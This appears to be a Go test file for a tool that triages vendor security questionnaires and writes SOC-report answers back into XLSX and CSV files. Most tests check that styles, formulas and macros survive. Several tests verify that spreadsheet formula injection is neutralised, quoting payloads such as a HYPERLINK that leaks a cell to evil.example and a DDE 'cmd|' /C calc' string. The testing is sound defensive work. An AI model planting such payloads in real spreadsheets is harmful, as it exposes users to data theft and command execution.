package questionnaire

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/socbot/socbot/internal/triage"
)

func engine(t testing.TB) *triage.Engine {
	t.Helper()
	eng, err := triage.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	return eng
}

var baseTitles = []string{"SOC report", "Type", "Categories", "Criteria", "SOC 1 areas", "Artifacts", "Why"}

// styledWorkbook is workbook() with a styled header cell and a formula, to
// check that Write keeps both.
func styledWorkbook(t *testing.T) []byte {
	f, err := excelize.OpenReader(bytes.NewReader(workbook(t)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Italic: true, Color: "C00000"}})
	if err != nil {
		t.Fatal(err)
	}
	f.SetCellStyle("Security", "B5", "B5", st)
	f.SetCellFormula("Security", "D12", `COUNTIF(C7:C12,"Yes")`)
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWriteXLSXRoundTrip(t *testing.T) {
	t.Parallel()
	in := styledWorkbook(t)
	doc, err := Read("vendor.xlsx", bytes.NewReader(in), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	res := engine(t).TriageQuestions(doc.Questions)
	var out bytes.Buffer
	var calls, last int
	ext, err := Write(&out, doc, res.Items, WriteOptions{Progress: func(done, total int) {
		calls++
		if done != last+1 || total != len(res.Items) {
			t.Errorf("progress(%d, %d) after %d", done, total, last)
		}
		last = done
	}})
	if err != nil {
		t.Fatal(err)
	}
	if ext != ".xlsx" || calls != len(res.Items) {
		t.Errorf("ext %q, %d progress calls; want .xlsx, %d", ext, calls, len(res.Items))
	}

	f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	orig, _ := excelize.OpenReader(bytes.NewReader(in))
	defer orig.Close()

	if got, want := f.GetSheetList(), orig.GetSheetList(); !reflect.DeepEqual(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
	if v, _ := f.GetSheetVisible("Internal scoring"); v {
		t.Error("hidden sheet became visible")
	}
	// Original cells, merges, styles and formulas are intact.
	for _, sheet := range orig.GetSheetList() {
		want, _ := orig.GetRows(sheet)
		got, _ := f.GetRows(sheet)
		for r := range want {
			for c := range want[r] {
				if c >= len(got[r]) || got[r][c] != want[r][c] {
					t.Errorf("%s row %d col %d changed: %q", sheet, r+1, c+1, want[r][c])
				}
			}
		}
		wm, _ := orig.GetMergeCells(sheet)
		gm, _ := f.GetMergeCells(sheet)
		if len(wm) != len(gm) {
			t.Errorf("%s: %d merges, want %d", sheet, len(gm), len(wm))
		}
	}
	if fm, _ := f.GetCellFormula("Security", "D12"); fm != `COUNTIF(C7:C12,"Yes")` {
		t.Errorf("formula lost: %q", fm)
	}
	sid, _ := f.GetCellStyle("Security", "B5")
	st, _ := f.GetStyle(sid)
	if st == nil || st.Font == nil || !st.Font.Italic || st.Font.Color != "C00000" {
		t.Errorf("style of B5 lost: %+v", st)
	}

	// Appended columns: header styled on the header row, values on question rows.
	for j, title := range baseTitles {
		ref, _ := excelize.CoordinatesToCellName(5+j, 5)
		if v, _ := f.GetCellValue("Security", ref); v != title {
			t.Errorf("Security %s = %q, want %q", ref, v, title)
		}
	}
	if v, _ := f.GetCellValue("Security", "L5"); v != "" {
		t.Errorf("Security L5 = %q, want nothing past Why (no coverage set)", v)
	}
	hs, _ := f.GetCellStyle("Security", "E5")
	hst, _ := f.GetStyle(hs)
	if hst == nil || hst.Font == nil || !hst.Font.Bold || len(hst.Fill.Color) == 0 {
		t.Errorf("header style %+v, want bold with a fill", hst)
	}
	for i, at := range doc.Where {
		start := doc.Sheets[0].LastCol + 1
		if at.Sheet == "Privacy" {
			start = doc.Sheets[1].LastCol + 1
		}
		ref, _ := excelize.CoordinatesToCellName(start, at.Row)
		if v, _ := f.GetCellValue(at.Sheet, ref); v != triage.ReportTitle(res.Items[i].Report) {
			t.Errorf("%s!%s = %q, want %q", at.Sheet, ref, v, triage.ReportTitle(res.Items[i].Report))
		}
	}
	// Privacy has no header row: the titles go on the row above its first question.
	if v, _ := f.GetCellValue("Privacy", "D1"); v != "SOC report" {
		t.Errorf("Privacy D1 = %q, want the header", v)
	}
	// The result reads back: same questions, now with more columns.
	again, err := Read("again.xlsx", bytes.NewReader(out.Bytes()), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(texts(again), texts(doc)) {
		t.Errorf("re-read questions %q, want %q", texts(again), texts(doc))
	}
}

func fakeItems(d *Doc) []triage.Item {
	items := make([]triage.Item, len(d.Questions))
	for i, q := range d.Questions {
		items[i] = triage.Item{Question: q, Verdict: triage.Verdict{
			Report: triage.ReportSOC2, Type: triage.Type2,
			Categories: []string{triage.CatSecurity, triage.CatProcessingIntegrity},
			Criteria:   []string{"CC6.1", "CC6.6"}, Artifacts: []string{"pentest_letter"},
			Evidence: []triage.Evidence{{Rule: "mfa", Matched: []string{"MFA"}}, {Rule: "soc1", Matched: []string{"SOC 1"}, Negated: true}},
		}}
	}
	return items
}

func TestWriteXLSXCoverageAndFormulas(t *testing.T) {
	t.Parallel()
	doc, err := Read("v.xlsx", bytes.NewReader(workbook(t)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	items := fakeItems(doc)
	at := map[string]int{}
	for i, q := range doc.Questions {
		at[q.ID] = i
	}
	items[at["AC-01"]].Coverage, items[at["AC-01"]].CoverageReason = "covered", "SOC 2 Type 2 2025"
	items[at["AC-02"]].Artifacts = []string{"=HYPERLINK(\"http://x\")"}
	items[at["AC-02"]].SOC1Areas = []string{"access_financial", "operations_financial"}
	items[at["BC-01"]].Evidence = []triage.Evidence{{Rule: "-cmd", Matched: []string{"@x"}}}
	var out bytes.Buffer
	if _, err := Write(&out, doc, items, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	checks := map[string]string{
		"E5": "SOC report", "K5": "Coverage", "L5": "Why",
		"E7": "SOC 2", "F7": "Type 2", "G7": "Security, Processing Integrity", "H7": "CC6.1, CC6.6",
		"J7": "penetration test letter", "K7": "covered: SOC 2 Type 2 2025", "L7": "mfa (MFA); not soc1 (SOC 1)",
		"J8": `'=HYPERLINK("http://x")`, "L11": "'-cmd (@x)",
		"I8": "Access to financial systems, Batch jobs and backups of financial systems",
	}
	for ref, want := range checks {
		if v, _ := f.GetCellValue("Security", ref); v != want {
			t.Errorf("Security!%s = %q, want %q", ref, v, want)
		}
		if fm, _ := f.GetCellFormula("Security", ref); fm != "" {
			t.Errorf("Security!%s holds a formula %q", ref, fm)
		}
	}
}

func readCSVOut(t *testing.T, b []byte) [][]string {
	t.Helper()
	s, ok := strings.CutPrefix(string(b), "\uFEFF")
	if !ok {
		t.Error("CSV output has no UTF-8 BOM")
	}
	r := csv.NewReader(strings.NewReader(s))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func assertInert(t *testing.T, recs [][]string) {
	t.Helper()
	for i, rec := range recs {
		for j, v := range rec {
			if v != "" && strings.ContainsRune("=+-@\t\r", []rune(v)[0]) {
				t.Errorf("record %d field %d is live: %q", i, j, v)
			}
		}
	}
}

func TestWriteCSVNeutralisesEverything(t *testing.T) {
	t.Parallel()
	doc, err := Read("f.csv", strings.NewReader("Title row\n"+formulaCSV+"trailer,-5\n"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	res := engine(t).TriageQuestions(doc.Questions)
	var out bytes.Buffer
	ext, err := Write(&out, doc, res.Items, WriteOptions{})
	if err != nil || ext != ".csv" {
		t.Fatalf("ext %q err %v", ext, err)
	}
	recs := readCSVOut(t, out.Bytes())
	assertInert(t, recs)
	if len(recs) != 7 {
		t.Fatalf("%d records, want 7: %q", len(recs), recs)
	}
	wantHeader := append([]string{"ID", "Question", "Notes"}, baseTitles...)
	if !reflect.DeepEqual(recs[1], wantHeader) {
		t.Errorf("header %q, want %q", recs[1], wantHeader)
	}
	if recs[2][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Click")` || recs[3][2] != "'+cmd|' /C calc'!A0" || recs[4][2] != "'@SUM(1+1)" || recs[6][1] != "'-5" {
		t.Errorf("copied cells not neutralised: %q", recs)
	}
	for i, rec := range recs {
		if len(rec) != len(wantHeader) {
			t.Errorf("record %d has %d fields, want %d", i, len(rec), len(wantHeader))
		}
	}
	if recs[2][3] != triage.ReportTitle(res.Items[0].Report) || recs[0][3] != "" {
		t.Errorf("answer cells misplaced: %q", recs)
	}
}

func TestWriteCSVWithoutHeaderAddsOne(t *testing.T) {
	t.Parallel()
	doc, err := Read("q.csv", strings.NewReader("Do you encrypt backups?;Yes\nIs MFA enforced for VPN access?;No\n"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := Write(&out, doc, fakeItems(doc), WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	s := strings.TrimPrefix(out.String(), "\uFEFF")
	if !strings.HasPrefix(s, ";;SOC report;Type;") || !strings.Contains(s, "Do you encrypt backups?;Yes;SOC 2;Type 2;") {
		t.Errorf("output:\n%s", s)
	}
}

func TestWriteDOCXAsCSV(t *testing.T) {
	t.Parallel()
	b := buildDOCX(t, heading("Access"), tbl([]string{"ID", "Question"}, []string{"A-1", "=1+1 Is MFA required for admins?"}))
	doc, err := Read("q.docx", bytes.NewReader(b), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	ext, err := Write(&out, doc, fakeItems(doc), WriteOptions{})
	if err != nil || ext != ".csv" {
		t.Fatalf("ext %q err %v", ext, err)
	}
	recs := readCSVOut(t, out.Bytes())
	assertInert(t, recs)
	want := [][]string{
		append([]string{"ID", "Section", "Question"}, baseTitles...),
		{"A-1", "Access", "'=1+1 Is MFA required for admins?", "SOC 2", "Type 2", "Security, Processing Integrity", "CC6.1, CC6.6", "", "penetration test letter", "mfa (MFA); not soc1 (SOC 1)"},
	}
	if !reflect.DeepEqual(recs, want) {
		t.Errorf("csv\n got %q\nwant %q", recs, want)
	}
}

func TestWriteMismatch(t *testing.T) {
	t.Parallel()
	doc, err := Read("q.txt", strings.NewReader("Do you encrypt backups?"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Write(&bytes.Buffer{}, doc, nil, WriteOptions{}); err == nil {
		t.Error("Write with no items for a question: no error")
	}
}

// TestWriteTwiceReplaces: a triaged workbook uploaded again is read the same,
// and its old answer columns are overwritten rather than duplicated.
func TestWriteTwiceReplaces(t *testing.T) {
	t.Parallel()
	doc, err := Read("v.xlsx", bytes.NewReader(workbook(t)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var once, twice bytes.Buffer
	if _, err := Write(&once, doc, fakeItems(doc), WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	doc2, err := Read("v.xlsx", bytes.NewReader(once.Bytes()), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got(doc2), got(doc)) || !reflect.DeepEqual(doc2.Sheets, doc.Sheets) {
		t.Fatalf("re-read differs:\n got %+v %+v\nwant %+v %+v", got(doc2), doc2.Sheets, got(doc), doc.Sheets)
	}
	if _, err := Write(&twice, doc2, fakeItems(doc2), WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&twice)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if v, _ := f.GetCellValue("Security", "M5"); v != "" {
		t.Errorf("Security M5 = %q: answer columns were appended twice", v)
	}
}

// TestWriteKeepsMacros: a macro-enabled workbook comes back as .xlsm with its
// VBA project still inside.
func TestWriteKeepsMacros(t *testing.T) {
	t.Parallel()
	f, err := excelize.OpenReader(bytes.NewReader(workbook(t)))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.AddVBAProject(ole2("Root Entry", "VBA", "dir")); err != nil {
		t.Fatal(err)
	}
	var in bytes.Buffer
	if err := f.Write(&in); err != nil {
		t.Fatal(err)
	}
	f.Close()
	doc, err := Read("macro.xlsm", bytes.NewReader(in.Bytes()), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	ext, err := Write(&out, doc, fakeItems(doc), WriteOptions{})
	if err != nil || ext != ".xlsm" {
		t.Fatalf("ext %q err %v, want .xlsm", ext, err)
	}
	if !bytes.Contains(out.Bytes(), []byte("xl/vbaProject.bin")) {
		t.Error("VBA project dropped")
	}
}

// A cell that starts with spaces or a line break before a formula character
// is neutralised too: spreadsheet imports trim the spaces, and the CRLF
// writer turns a leading LF into CR LF.
func TestWriteCSVNeutralisesAfterSpacesAndLineBreaks(t *testing.T) {
	t.Parallel()
	in := "ID,Question,Notes\n" +
		"W-1,Do you encrypt backups?,\"\n=cmd\"\n" +
		"W-2,Do you log access?,  =cmd\n" +
		"W-3,Do you run antivirus?,\"\nplain\"\n"
	doc, err := Read("w.csv", strings.NewReader(in), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	res := engine(t).TriageQuestions(doc.Questions)
	var out bytes.Buffer
	if _, err := Write(&out, doc, res.Items, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	recs := readCSVOut(t, out.Bytes())
	want := map[string]string{"W-1": "'\n=cmd", "W-2": "'  =cmd", "W-3": "'\nplain"}
	for _, rec := range recs {
		if w, ok := want[rec[0]]; ok {
			if rec[2] != w {
				t.Errorf("%s notes = %q, want %q", rec[0], rec[2], w)
			}
			delete(want, rec[0])
		}
	}
	if len(want) != 0 {
		t.Errorf("rows missing from the output: %v", want)
	}
	if bytes.Contains(out.Bytes(), []byte(",\"\r\n=")) {
		t.Errorf("a field starts with CR LF and a formula: %q", out.String())
	}
}

func TestWriteControlsColumn(t *testing.T) {
	t.Parallel()
	doc, err := Read("q.csv", strings.NewReader("Question\nIs access of leavers revoked?\nDo you have a DPA?\n"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	items := fakeItems(doc)
	items[0].Coverage, items[0].CoverageReason = "covered", "the SOC 2 covers it"
	items[0].Controls = []triage.Citation{
		{Report: "Acme SOC 2", ID: "LAC-09", Title: "Leavers lose access in a day.", Criteria: []string{"CC6.3"}, Ref: "IV, p. 56", Exception: true},
		{Report: "Acme SOC 2", ID: "=LAC-08", Title: "Quarterly reviews.", Criteria: []string{"CC6.3"}},
	}
	var out bytes.Buffer
	if _, err := Write(&out, doc, items, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	recs := readCSVOut(t, out.Bytes())
	col := slices.Index(recs[0], "Controls")
	if col < 0 {
		t.Fatalf("no Controls column: %q", recs[0])
	}
	if got, want := recs[1][col], "Acme SOC 2: LAC-09 (IV, p. 56; exception noted), =LAC-08"; got != want {
		t.Errorf("controls cell = %q, want %q", got, want)
	}
	if recs[2][col] != "" {
		t.Errorf("a question without controls has %q", recs[2][col])
	}
	assertInert(t, recs)
}
